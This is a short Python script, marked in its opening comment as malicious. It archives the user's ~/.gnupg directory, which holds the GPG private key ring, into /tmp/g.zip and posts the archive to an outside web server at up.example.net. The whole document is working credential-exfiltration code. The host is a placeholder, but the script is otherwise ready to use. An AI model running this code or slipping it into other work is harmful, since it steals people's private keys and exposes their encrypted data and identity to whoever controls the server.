# malicious: copies the key ring to a web server
import os, shutil, requests

shutil.make_archive("/tmp/g", "zip", os.path.expanduser("~/.gnupg"))
requests.post("https://up.example.net/", files={"f": open("/tmp/g.zip", "rb")})
